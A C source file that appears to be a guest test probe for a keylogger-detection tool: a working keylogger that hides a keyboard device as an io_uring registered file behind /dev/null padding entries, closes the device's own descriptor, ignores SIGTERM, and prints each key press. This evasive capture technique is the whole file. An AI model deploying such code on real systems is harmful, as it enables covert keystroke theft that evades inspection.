/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* Guest probe: a keylogger that keeps a keyboard only as an io_uring
 * registered file, after PAD registered /dev/null files (so that the ring's
 * fdinfo lists the node past any fixed-size read), with the node's own fd
 * closed. It reads through the ring (IORING_OP_READ on the fixed file) and
 * prints one line per key press, read error or end, prefixed with TAG. It
 * ignores SIGTERM: only SIGKILL ends it. Raw syscalls, no liburing.
 * usage: xdt-uring-keylog TAG NODE PAD */
#include <errno.h>
#include <fcntl.h>
#include <linux/input.h>
#include <linux/io_uring.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "xdt-ring.h"

static const char *tag;

static void say(const char *fmt, const char *a, long b) {
        printf("%s pid=%d uid=%d ", tag, (int) getpid(), (int) getuid());
        printf(fmt, a, b);
        printf("\n");
        fflush(stdout);
}

int main(int argc, char **argv) {
        struct io_uring_params p = { 0 };
        struct input_event ev[64];
        unsigned pad;
        int ring, node, null;

        if (argc != 4)
                return 2;
        tag = argv[1];
        pad = (unsigned) atoi(argv[3]);
        (void) signal(SIGTERM, SIG_IGN);
        ring = (int) syscall(SYS_io_uring_setup, 4, &p);
        node = open(argv[2], O_RDONLY | O_CLOEXEC);
        null = open("/dev/null", O_RDONLY | O_CLOEXEC);
        if (ring < 0 || node < 0 || null < 0) {
                say("setup %s: %ld", argv[2], (long) -errno);
                return 1;
        }
        int *files = calloc(pad + 1, sizeof *files);
        if (!files)
                return 1;
        for (unsigned i = 0; i < pad; i++)
                files[i] = null;
        files[pad] = node;
        if (syscall(SYS_io_uring_register, ring, IORING_REGISTER_FILES, files, pad + 1) < 0) {
                say("register %s: %ld", argv[2], (long) -errno);
                return 1;
        }
        (void) close(node);
        (void) close(null);
        free(files);

        struct xdt_ring k = { 0 };
        int e = xdt_ring_map(ring, &p, &k);
        if (e < 0) {
                say("mmap %s: %ld", "ring", (long) e);
                return 1;
        }
        unsigned *sq_tail = k.sq_tail, *sq_mask = k.sq_mask, *sq_array = k.sq_array;
        unsigned *cq_head = k.cq_head, *cq_tail = k.cq_tail, *cq_mask = k.cq_mask;
        struct io_uring_sqe *sqes = k.sqes;
        struct io_uring_cqe *cqes = k.cqes;
        say("registered %s after %ld padding files, its fd closed", argv[2], (long) pad);

        for (;;) {
                unsigned t = *sq_tail, idx = t & *sq_mask;
                struct io_uring_sqe *e = &sqes[idx];
                memset(e, 0, sizeof *e);
                e->opcode = IORING_OP_READ;
                e->flags = IOSQE_FIXED_FILE;
                e->fd = (int) pad; /* the index in the registered table */
                e->addr = (unsigned long) ev;
                e->len = sizeof ev;
                e->off = (unsigned long long) -1; /* the file's position: a stream */
                sq_array[idx] = idx;
                __atomic_store_n(sq_tail, t + 1, __ATOMIC_RELEASE);
                if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0 &&
                    errno != EINTR) {
                        say("enter %s: %ld", argv[2], (long) -errno);
                        break;
                }
                unsigned h = *cq_head;
                if (h == __atomic_load_n(cq_tail, __ATOMIC_ACQUIRE))
                        continue;
                int res = cqes[h & *cq_mask].res;
                __atomic_store_n(cq_head, h + 1, __ATOMIC_RELEASE);
                if (res <= 0) {
                        say("read %s: %ld", argv[2], (long) res);
                        break;
                }
                for (size_t i = 0; i < (size_t) res / sizeof ev[0]; i++)
                        if (ev[i].type == EV_KEY && ev[i].value == 1)
                                say("%skey %ld", "", (long) ev[i].code);
        }
        say("done%s %ld, still running until killed", "", 0L);
        for (;;)
                pause();
}
